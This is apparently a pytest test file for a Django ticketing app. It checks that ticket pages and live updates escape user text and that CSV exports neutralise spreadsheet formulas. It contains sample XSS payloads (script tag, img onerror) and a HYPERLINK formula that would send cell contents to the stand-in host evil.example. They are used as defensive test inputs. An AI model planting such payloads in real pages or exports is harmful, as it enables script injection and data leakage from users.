"""Text that customers and agents write reaches pages escaped and CSV exports inert."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from reports.csv import _cell
from tests import factories
from tickets.models import Agent, EventKind, Note, TicketEvent

SCRIPT = "<script>alert('x')</script>"
IMG = '<img src=x onerror="alert(1)">'
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("-0.5000", "-0.5000"),
        ("Mia Chen", "Mia Chen"),
        (12, 12),
    ],
    ids=["equals", "plus", "minus", "at", "tab", "negative-number", "text", "int"],
)
def test_csv_cells_never_start_a_formula(value, expected):
    assert _cell(value) == expected


@pytest.mark.django_db
def test_agent_name_in_a_report_export_is_not_a_formula(world):
    Agent.objects.filter(pk=world.agents["junior_a"].pk).update(name=FORMULA)
    client = Client()
    client.force_login(world.agents["lead_a"])

    response = client.get("/reports/export/rates.csv")

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    names = [row[1] for row in rows[1:]]
    assert "'" + FORMULA in names
    assert FORMULA not in names


@pytest.mark.django_db
def test_customer_text_is_escaped_on_the_ticket_page_and_its_live_catch_up(world):
    ticket = world.ticket_a
    ticket.subject = SCRIPT
    ticket.save(update_fields=["subject"])
    factories.MessageFactory(ticket=ticket, body=IMG)
    escalation = ticket.escalations.get()
    escalation.summary_note = Note.objects.create(ticket=ticket, body=f"Customer said: {IMG}")
    escalation.save(update_fields=["summary_note"])
    TicketEvent.objects.create(
        ticket=ticket,
        kind=EventKind.PRIORITY_CHANGED,
        data={"from": "normal", "to": "urgent", "via": f"macro {SCRIPT}"},
    )
    client = Client()
    client.force_login(world.agents["junior_a"])

    page = client.get(f"/tickets/{ticket.pk}/").content.decode()
    live = client.get(f"/tickets/{ticket.pk}/live/").json()

    html_parts = [
        page,
        *(e["html"] for e in live["events"]),
        *(e["pinned_html"] for e in live["events"]),
    ]
    html_parts += [live["meta_html"], live["history_html"], live["ticket_history_html"]]
    assert len(live["events"]) == 1
    for html in html_parts:
        assert SCRIPT not in html
        assert IMG not in html
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in page
    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in live["events"][0]["html"]
    assert "via macro &lt;script&gt;" in live["ticket_history_html"]
